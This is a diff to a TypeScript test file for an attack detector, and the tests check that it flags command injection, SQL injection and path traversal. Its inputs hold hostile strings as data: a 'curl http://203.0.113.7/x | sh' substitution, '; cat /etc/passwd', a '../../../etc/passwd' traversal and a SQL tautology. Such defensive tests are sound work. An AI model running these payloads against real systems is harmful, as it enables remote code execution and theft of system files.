@@ -1,5 +1,5 @@
 import t from 'tap'
-import { jndiLookup, type AttackInputs } from '../../src/insight/attacks.ts'
+import { AttackDetector, jndiLookup, type AttackInputs } from '../../src/insight/attacks.ts'
 import { sqlInjection, sqlStatement } from '../../src/insight/sql.ts'
 import { bareCommand, shellInjection } from '../../src/insight/shell.ts'
 import { jsonStrings, xmlTexts } from '../../src/insight/decode.ts'
@@ -1719,8 +1719,10 @@ t.test('twenty-fifth round: find running a program, the field separator set to a
   t.ok(q("array_reduce(array('ls'),'system');").includes('rce'), 'array_reduce handed system')
 })
 
+/** a release note with one line of prose given, for the sentence and system-file rules (twenty-sixth round) */
+const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`
+
 t.test('twenty-sixth round (documents on this machine): a system file named inside a sentence of a text, a text table’s borders', async (t) => {
-  const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`
   t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a system file between two words of a sentence')
   t.same(json({ text: notes('This package supplies the master copies of /etc/passwd and /etc/group,') }), [], 'and one ending a line on a comma')
   t.ok(json({ text: notes('   read it from ../../../etc/passwd instead of the local file') }).includes('path_traversal'), 'climbing to it still counts')
@@ -1788,7 +1790,6 @@ t.test('twenty-sixth round, review: what its exemptions must not hide', async (t
   const c = '#include "server.h"\n\nstatic int n;\n\nint count(void) {\n    int type;\n'
   t.ok(json({ snippet: `${c}    for (x = \`curl http://203.0.113.7/x | sh\`; a; b) {\n        n += 1;\n    }\n    return n;\n}\n` }).includes('rce'), 'backticks in a clause')
   // a system file after a program that reads it, on a line of prose
-  const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`
   t.ok(json({ text: notes('cat /etc/passwd and') }).includes('path_traversal'), 'cat before the file')
   t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a sentence naming it still is none')
 })
@@ -1901,4 +1902,17 @@ t.test("twenty-seventh round, review: a substitution's own quoting is no GNU quo
   t.ok(json({ filter: { type: 'string', pattern: 'a;id' }, $ref: 'x' }).includes('rce'), "in an object that is no schema's subschema")
   t.ok(json({ properties: { a: { type: 'string', pattern: '; id' } }, $ref: '#', filter: '; id' }).includes('rce'), "the same text in another field than a subschema's pattern")
   t.same(json({ $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', properties: { Names: { type: 'array', items: { type: 'string', pattern: '^Y|M|W|D$' } }, Keys: { type: 'object', propertyNames: { pattern: '^(a|b|c)$' } } } }), [], "a schema's patterns still are skipped, in items and propertyNames too")
+})
+
+t.test('twenty-seventh round, read again: a document too large to walk whole has none of its patterns or conditions skipped', async (t) => {
+  // the largest body the detector may be set to read (insight.maxInspectBytes: at most 1MiB), so that the walks' bounds are what ends them
+  const wide = new AttackDetector({ maxInspectBytes: 1024 * 1024 })
+  const body = (doc: unknown) => wide.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(doc)) })
+  const pattern = '; cat /etc/passwd'
+  const small = { $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', properties: { a: { type: 'string', pattern } } }
+  t.same(body(small), [], "a small schema's pattern is its validator's")
+  t.ok(body({ ...small, examples: new Array(5000).fill(0) }).includes('rce'), "past the walk's bound, the pattern is read")
+  const workflow = (extra: unknown[]) => ({ name: 'CI', jobs: { test: { 'runs-on': 'ubuntu-latest', steps: [{ if: "1' or '1'='1", run: 'npm test' }], matrix: extra } } })
+  t.same(body(workflow([])), [], "a small workflow's condition is its runner's")
+  t.ok(body(workflow(new Array(9000).fill(0))).includes('sqli'), "past the walk's bound, a step's condition is read")
 })
